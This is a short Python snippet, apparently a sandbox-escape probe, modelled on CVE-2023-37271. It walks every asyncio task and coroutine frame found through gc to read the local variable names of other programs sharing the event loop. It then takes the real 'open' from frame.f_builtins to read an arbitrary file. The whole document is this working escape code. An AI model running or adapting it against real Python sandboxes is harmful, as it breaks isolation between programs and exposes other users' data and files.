# Tries: every task of the event loop and the locals of its frames: those of other programs, where a loop is shared.
# Origin: own idea; CVE-2023-37271's relatives cr_frame and ag_frame.

import asyncio, gc

found = []
for task in asyncio.all_tasks() | {one for one in gc.get_objects() if isinstance(one, asyncio.Task)}:
    coroutine = task.get_coro()
    while coroutine is not None and getattr(coroutine, "cr_frame", None):
        frame = coroutine.cr_frame
        found.append([name for name in frame.f_locals])
        found.append(frame.f_builtins["open"](input["file"]).read())
        coroutine = coroutine.cr_await
await asyncio.sleep(0)
found
